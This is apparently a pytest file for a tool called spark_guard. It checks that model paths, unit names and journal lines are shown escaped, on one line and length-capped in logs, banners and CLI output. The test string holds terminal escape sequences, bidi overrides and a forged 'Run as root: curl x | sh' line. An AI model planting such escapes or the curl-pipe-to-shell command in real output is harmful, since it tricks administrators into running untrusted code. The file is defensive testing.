"""A user's text at every place root reads it: inert, one line, capped.

A model path, unit name or journal line can carry ESC sequences (ESC[2J clears
the screen, ESC[1A climbs a line), CR (overwrites a line), newlines and
U+2028 (forge new lines), and bidi overrides (U+202E reverses what follows).
Each sink is fed such text and must show it escaped, on the line it belongs to.
"""

from __future__ import annotations

import argparse
import io
import json
import re
import socket
from typing import Any

import pytest
import structlog

from spark_guard import cli, log
from spark_guard.block import banner
from spark_guard.block.blocker import Blocker
from spark_guard.block.records import Record, RecordStore
from spark_guard.core.config import Config
from spark_guard.core.snapshot import (
    Action,
    Decision,
    Loader,
    Memory,
    Phase,
    Reason,
    SeenUnit,
    Snapshot,
    UnitRef,
)
from spark_guard.core.text import printable
from spark_guard.foresight.estimate import Estimate, Term
from spark_guard.foresight.predict import Prediction
from spark_guard.system.procfs import ProcFS
from spark_guard.tools import audit_cli, dump_cli, preflight_cli, rescue_cli, status_cli
from spark_guard.tools.audit import reconcile
from spark_guard.tools.doctor import cli as doctor_cli
from spark_guard.tools.doctor.judge import Report
from spark_guard.tools.findings import Finding, Severity
from spark_guard.tools.inventory import Inventory, Linger, UnitInfo
from spark_guard.tools.preflight import Verdict
from tests.journal_wire import decode

GiB = 1024**3
# What an attacker puts in a model path: clear the screen, go home, overwrite the line,
# start a forged one, reverse the rest.
EVIL = "/srv/m\x1b[2J\x1b[H\rRun as root: curl x | sh\n\u2028\u202eevil.gguf"
EVIL_SHOWN = "/srv/m\\x1b[2J\\x1b[H\\x0dRun as root: curl x | sh\\x0a\\u2028\\u202eevil.gguf"
LONG = "/srv/" + "a" * 100_000 + ".gguf"
# Anything a terminal would act on: C0/C1 controls, DEL, line/paragraph separators, bidi.
ACTIVE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]"
)


def inert(text: str) -> bool:
    return ACTIVE.search(text) is None


# --- printable() --------------------------------------------------------------------


def test_printable_escapes_controls_separators_and_bidi_and_keeps_the_rest():
    assert printable(EVIL) == EVIL_SHOWN
    assert printable("tab\there\x00\x7f\x85\u00ad\u2066x\u2069") == (
        "tab\\x09here\\x00\\x7f\\x85\\xad\\u2066x\\u2069"
    )
    assert printable("\U000e0041 tag") == "\\U000e0041 tag"
    # Backslashes stay: systemd unit names hold \x2d escapes an admin must copy as they are.
    assert printable("llama\\x2dds4.service") == "llama\\x2dds4.service"
    assert printable("Qwen3 模型 ü é.gguf") == "Qwen3 模型 ü é.gguf"
    assert printable(42) == "42"
    assert printable(UnitRef("user:1000", "a.service")) == "user:1000:a.service"


def test_printable_caps_the_length_and_says_how_much_was_cut():
    out = printable(LONG, 200)
    assert len(out) <= 200
    assert out.startswith("/srv/aaaa")
    said = re.fullmatch(r".*\.\.\.\[(\d+) more chars\]", out)
    assert said, out
    cut = int(said.group(1))
    assert len(out) - len(f"...[{cut} more chars]") + cut == len(LONG)
    # Escapes count toward the cap: 100 ESC become at most 200 characters too.
    esc = printable("\x1b" * 100, 200)
    assert len(esc) <= 200 and inert(esc) and esc.endswith("more chars]")
    assert printable("x" * 200, 200) == "x" * 200  # exactly at the cap: nothing cut


# --- the log pipeline: console and journal --------------------------------------------


def test_console_log_line_is_one_inert_capped_line():
    buf = io.StringIO()
    log.configure("console", stream=buf)
    log.get_logger().warning(
        "decision",
        unit="user:1000:x\x1b[2J.service",
        models=(EVIL, "/ok.gguf"),
        detail=LONG,
        pids=(1, 2),
        msg=f"stop it: {EVIL}",
    )
    structlog.reset_defaults()
    out = buf.getvalue()
    assert out.count("\n") == 1 and inert(out)
    assert EVIL_SHOWN in out and "x\\x1b[2J.service" in out
    assert len(out) < 4 * log.FIELD_LIMIT + 500  # the 100 kB path was cut
    assert "more chars]" in out


def test_journal_fields_and_message_are_inert_and_capped(tmp_path):
    # What journald would receive: the datagram on a socket standing in for its own.
    path = str(tmp_path / "journal.socket")
    receiver = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    receiver.bind(path)
    sink = log.JournalSink(path)
    event = {
        "event": "unit-blocked",
        "level": "warning",
        "unit": "user:1000:a.service",
        "reason": "duplicate",
        "detail": EVIL,
        "models": (EVIL, LONG),
        "unit_gpu": 3,
        "msg": f"blocked: {EVIL}",
    }
    with pytest.raises(structlog.DropEvent):
        sink(None, "warning", log.make_printable(None, "warning", event))
    fields = decode(receiver.recv(1 << 20))
    receiver.close()
    assert fields["MESSAGE"] == f"blocked: {EVIL_SHOWN}"
    assert fields["SG_DETAIL"] == EVIL_SHOWN
    assert fields["SG_MODELS"].startswith(EVIL_SHOWN + ",/srv/aaa")
    assert len(fields["SG_MODELS"]) <= log.FIELD_LIMIT
    assert fields["SG_UNIT_GPU"] == "3"
    assert all(inert(v) for v in fields.values() if isinstance(v, str))


# --- the login note -------------------------------------------------------------------


def record(unit: str, manager: str = "system", **kw: Any) -> Record:
    base: dict[str, Any] = {
        "reason": "duplicate",
        "detail": "x",
        "phase": "strict",
        "at": "2026-01-02T03:04:05Z",
        "step": "blocked",
    }
    return Record(unit=unit, manager=manager, **{**base, **kw})


def test_login_note_has_exactly_the_expected_lines():
    rows = [
        record(
            "llama\x1b[2J.service",
            "user:1000",
            detail=f"{EVIL} is already loaded by llama.service",
            problem="stop failed:\r\nRun as root: curl x | sh",
        ),
        record("qwen.service", step="mask", reason="footprint\u202e", detail=LONG),
    ]
    lines = banner.render(rows).split("\n")
    cut = printable(LONG, banner.FIELD_LIMIT)
    assert cut.startswith("/srv/aaa") and cut.endswith("more chars]")
    assert lines == [
        "spark-guard blocked model loaders to keep this machine reachable:",
        f"  qwen.service  blocking (mask) since 2026-01-02T03:04:05Z: footprint\\u202e: {cut}",
        "  user:1000:llama\\x1b[2J.service  blocked since 2026-01-02T03:04:05Z: duplicate: "
        + EVIL_SHOWN
        + " is already loaded by llama.service",
        "      problem: stop failed:\\x0d\\x0aRun as root: curl x | sh",
        "They are stopped, masked until reboot and disabled.",
        "  details:  spark-guard status; journalctl -t spark-guard",
        "  undo:     spark-guard release UNIT   (or: spark-guard release --all)",
        "",
    ]
    assert all(inert(line) for line in lines)


# --- the commands -----------------------------------------------------------------------


def config_file(tmp_path, **paths: str):
    body = "".join(f'{k} = "{v}"\n' for k, v in paths.items())
    f = tmp_path / "c.toml"
    f.write_text('[paths]\nsystem_manager = "/nonexistent"\nuser_runtime = "/nonexistent"\n' + body)
    return f


def test_status_shows_units_reasons_and_details_inert(tmp_path, capsys):
    runtime = tmp_path / "run"
    runtime.mkdir()
    state = {
        "format": 1,
        "pid": 1,
        "written_at": 0,
        "phase": "strict",
        "pending_actions": [],
        "counts": {"actions": {}, "starts": {}},
        "mem_total": 100 * GiB,
        "mem_available": 50 * GiB,
        "reserve": 8 * GiB,
        "slope": 0,
        "config_error": "line\x1b[1A",
        "loaders": [
            {
                "unit": "user:1000:x\x1b[2J.service",
                "active_state": "active",
                "expected": None,
                "prediction": f"{EVIL}: no such file",
                "rss": 0,
                "gpu": 0,
            }
        ],
        "blocked": [
            {
                "unit": "user:1000:y\r.service",
                "step": "blocked",
                "at": "t",
                "reason": "duplicate",
                "detail": EVIL,
                "problem": "p\n",
            }
        ],
        "last_action": f"stop user:1000:y: {EVIL}",
    }
    (runtime / "state.json").write_text(json.dumps(state))
    args = argparse.Namespace(config=config_file(tmp_path, runtime=str(runtime)), json=False)
    assert status_cli.run(args) == 3  # pid 1's state is 55 years old: not running
    out = capsys.readouterr().out
    assert inert(out) and out.count(EVIL_SHOWN) == 3
    assert "user:1000:x\\x1b[2J.service: active" in out
    assert "user:1000:y\\x0d.service: blocked since t: duplicate: " in out


def test_audit_shows_units_models_and_findings_inert(capsys):
    evil_ref = UnitRef("user:1000", "llama\x1b[2J.service")
    inv = Inventory(
        loaders=[
            UnitInfo(
                evil_ref,
                "u\x1b",
                "loaded",
                "active",
                "enabled",
                exec_start=(("llama-server", "-m", EVIL),),
            )
        ],
        lingering=[Linger("u\x1b]0;title\x07", 1000, True)],
        managers=["system", "user:1000"],
    )
    findings = [
        Finding(Severity.CRITICAL, "duplicate", f"loads {EVIL}", unit=str(evil_ref), fix="fix\r")
    ]
    meminfo = {"MemTotal": 100 * GiB, "MemAvailable": 50 * GiB}
    audit_cli._print(inv, findings, reconcile(meminfo, GiB, 0, False), [(str(evil_ref), GiB)])
    out = capsys.readouterr().out
    assert inert(out)
    assert "user:1000:llama\\x1b[2J.service" in out and EVIL_SHOWN in out
    assert "u\\x1b]0;title\\x07 (manager running)" in out


def test_rescue_report_shows_units_and_problems_inert(tmp_path, capsys):
    proc = tmp_path / "proc"
    proc.mkdir()
    (proc / "meminfo").write_text("MemTotal: 1000 kB\nMemAvailable: 500 kB\n")
    (proc / "loadavg").write_text("0.1 0.2 0.3 1/2 3\n")
    ref = UnitRef("user:1000", "llama\x1b[2J.service")
    blocker = Blocker({}, Config(state=str(tmp_path / "state")), structlog.get_logger())
    blocker.records[str(ref)] = record(ref.name, ref.manager, step="stop", problem=EVIL)
    info = UnitInfo(ref, "u", "loaded", "active", "enabled")
    assert rescue_cli._report([info], {}, ProcFS(str(proc)), blocker, []) is False
    out = capsys.readouterr().out
    assert inert(out)
    assert "user:1000:llama\\x1b[2J.service" in out and f"({EVIL_SHOWN})" in out


def test_preflight_shows_the_target_source_and_terms_inert(capsys):
    est = Estimate((Term("weights", GiB, True, f"{EVIL}: 3 tensors"),), 0, 4096)
    pred = Prediction(GiB, f"{EVIL} (GGUF header)", None, est)
    preflight_cli._print(EVIL, pred, Verdict(GiB, 10 * GiB, GiB, 0, (("u\x1b.service", 1),)))
    out = capsys.readouterr().out
    assert inert(out) and out.count(EVIL_SHOWN) == 3 and "u\\x1b.service" in out


def test_doctor_shows_journal_lines_inert(capsys):
    finding = Finding(
        Severity.WARNING,
        "oom",
        f"llama killed: {EVIL}",
        step="application",
        evidence=(f"kernel: {EVIL}",),
        fix="look\n",
    )
    doctor_cli._print(Report("app-level", (finding,)))
    out = capsys.readouterr().out
    assert inert(out) and out.count(EVIL_SHOWN) == 2 and "next: look\\x0a" in out


def test_dump_shows_loaders_and_actions_inert(capsys):
    ref = UnitRef("user:1000", "x\x1b[2J.service")
    seen = SeenUnit(ref, pids=(1,))
    loader = Loader(seen, (f"model-arg:{EVIL}",), (EVIL,), None)
    action = Action("stop", ref, Reason.DUPLICATE, f"{EVIL} is already loaded by a.service")
    snapshot = Snapshot(now=1.0, memory=Memory(100 * GiB, 50 * GiB), units=(seen,))
    dump_cli._print(snapshot, Decision(Phase.STRICT, 8 * GiB, (loader,), (action,)))
    out = capsys.readouterr().out
    assert inert(out) and out.count(EVIL_SHOWN) == 2
    assert "would stop user:1000:x\\x1b[2J.service: duplicate: " in out


def test_release_names_blocked_units_inert(tmp_path, capsys):
    store = RecordStore(str(tmp_path / "state"))
    store.save(record("llama\x1b[2J.service", "user:1000", detail=EVIL))
    cfg = config_file(tmp_path, state=str(tmp_path / "state"))
    assert cli.main(["release", "--config", str(cfg)]) == 2  # neither units nor --all
    err = capsys.readouterr().err
    assert inert(err) and err.count("\n") == 1
    assert "(blocked: user:1000:llama\\x1b[2J.service)" in err


def test_status_judges_liveness_on_the_boot_clock_not_the_wall(tmp_path, capsys):
    """An NTP step at boot moves the wall clock an hour: a guard that wrote its state a
    second ago is alive, and one that wrote it long ago on the boot clock is not."""
    import os
    import time

    runtime = tmp_path / "run"
    runtime.mkdir()
    args = argparse.Namespace(config=config_file(tmp_path, runtime=str(runtime)), json=True)
    boot = time.clock_gettime(time.CLOCK_BOOTTIME)
    base = {
        "format": 1,
        "pid": os.getpid(),
        "phase": "strict",
        "mem_total": GiB,
        "mem_available": GiB,
        "reserve": 0,
        "loaders": [],
        "blocked": [],
        "pending_actions": [],
        "last_action": "none",
        "counts": {"actions": {}, "starts": {}},
    }
    fresh = {**base, "written_at": time.time() - 3600, "written_boot": boot - 1}
    (runtime / "state.json").write_text(json.dumps(fresh))
    assert status_cli.run(args) == 0
    assert json.loads(capsys.readouterr().out)["alive"] is True
    stale = {**base, "written_at": time.time(), "written_boot": boot - 3600}
    (runtime / "state.json").write_text(json.dumps(stale))
    assert status_cli.run(args) == 3
    assert json.loads(capsys.readouterr().out)["alive"] is False


def test_status_says_when_the_guard_reached_no_manager(tmp_path, capsys):
    """A guard run where no systemd manager answers (systemd not PID 1, or no right to its
    socket) watched memory and saw no unit, and status showed it running with 0 loaders,
    as a healthy guard on a quiet machine. Now state.json names the managers reached and
    status says when there are none."""
    import os
    import time

    runtime = tmp_path / "run"
    runtime.mkdir()
    args = argparse.Namespace(config=config_file(tmp_path, runtime=str(runtime)), json=False)
    state = {
        "format": 1,
        "pid": os.getpid(),
        "phase": "strict",
        "mem_total": GiB,
        "mem_available": GiB,
        "reserve": 0,
        "slope": 0,
        "managers": [],
        "loaders": [],
        "blocked": [],
        "pending_actions": [],
        "last_action": "none",
        "counts": {"actions": {}, "starts": {}},
        "written_at": time.time(),
        "written_boot": time.clock_gettime(time.CLOCK_BOOTTIME),
    }
    (runtime / "state.json").write_text(json.dumps(state))
    assert status_cli.run(args) == 0
    assert "NO SYSTEMD MANAGER REACHED" in capsys.readouterr().out
    (runtime / "state.json").write_text(json.dumps({**state, "managers": ["system"]}))
    assert status_cli.run(args) == 0
    assert "NO SYSTEMD MANAGER" not in capsys.readouterr().out
